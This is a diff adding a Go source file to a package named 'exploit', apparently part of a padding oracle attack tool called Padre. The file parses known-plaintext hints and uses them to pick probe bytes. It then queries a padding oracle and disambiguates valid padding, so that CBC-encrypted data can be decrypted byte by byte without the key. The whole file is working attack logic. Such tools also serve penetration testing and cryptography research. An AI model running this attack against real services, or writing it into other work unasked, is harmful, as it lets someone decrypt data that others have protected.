@@ -0,0 +1,99 @@
+package exploit
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strconv"
+	"strings"
+)
+
+// ParseHint parses hint about known plaintext in form [OFFSET:]TEXT, e.g. "user=" or "16:role=".
+// OFFSET is position of TEXT in plaintext (0 if omitted). returns known bytes by offset
+func ParseHint(hint string) (map[int]byte, error) {
+	offset, text := 0, hint
+	if i := strings.Index(hint, ":"); i > 0 {
+		if n, err := strconv.Atoi(hint[:i]); err == nil {
+			if n < 0 {
+				return nil, fmt.Errorf("negative offset in hint: %s", hint)
+			}
+			offset, text = n, hint[i+1:]
+		}
+	}
+
+	if text == "" {
+		return nil, fmt.Errorf("empty hint: %s", hint)
+	}
+
+	known := make(map[int]byte, len(text))
+	for i := 0; i < len(text); i++ {
+		known[offset+i] = text[i]
+	}
+	return known, nil
+}
+
+// what is known about plaintext of the block that is being broken
+type plainGuess struct {
+	prev  []byte       // preceding block of ciphertext: plaintext = intermediate XOR prev
+	hints map[int]byte // plaintext bytes expected at positions of the block (see Padre.Hints)
+}
+
+// makes guess about plaintext of the block, that starts at offset of plaintext and is preceded by prev
+func (p *Padre) guess(prev []byte, offset int) *plainGuess {
+	g := &plainGuess{prev: prev, hints: map[int]byte{}}
+	for pos := range prev {
+		if b, ok := p.Hints[offset+pos]; ok {
+			g.hints[pos] = b
+		}
+	}
+	return g
+}
+
+// probe byte at pos, that reveals plaintext byte when it produces tail
+func (g *plainGuess) probe(pos int, tail, plain byte) byte {
+	return plain ^ g.prev[pos] ^ tail
+}
+
+// probe byte at pos, that reveals hinted plaintext byte when it produces tail
+func (g *plainGuess) hinted(pos int, tail byte) (byte, bool) {
+	if g == nil {
+		return 0, false
+	}
+	hint, ok := g.hints[pos]
+	if !ok {
+		return 0, false
+	}
+	return g.probe(pos, tail, hint), true
+}
+
+// tests single probe byte, that is expected to produce valid padding.
+// returns nil if it does not
+func (p *Padre) tryHint(ctx context.Context, cipherChunk []byte, pos int, probe byte) (*byte, error) {
+	cipherChunk[pos] = probe
+	paddingError, err := p.IsPaddingErrorInChunk(ctx, cipherChunk)
+	if err != nil || paddingError {
+		return nil, err
+	}
+
+	// valid padding may be longer than expected by accident of preceding bytes (see disambiguate)
+	if pos == len(cipherChunk)/2-1 || hasImplicitLength(p.padding()) {
+		if pos == 0 {
+			return nil, nil
+		}
+		found, err := p.disambiguate(ctx, cipherChunk, pos, []byte{probe})
+		if errors.Is(err, errNoValidByte) {
+			return nil, nil
+		}
+		return found, err
+	}
+	return &probe, nil
+}
+
+// reports hints that turned out to be wrong
+func (g *plainGuess) check(p *Padre, pos int, intermediate byte) {
+	if hint, ok := g.hints[pos]; ok {
+		if plain := intermediate ^ g.prev[pos]; plain != hint {
+			p.log(logVerbose, "hint did not match", "pos", pos, "hint", hexByte(hint), "actual", hexByte(plain))
+		}
+	}
+}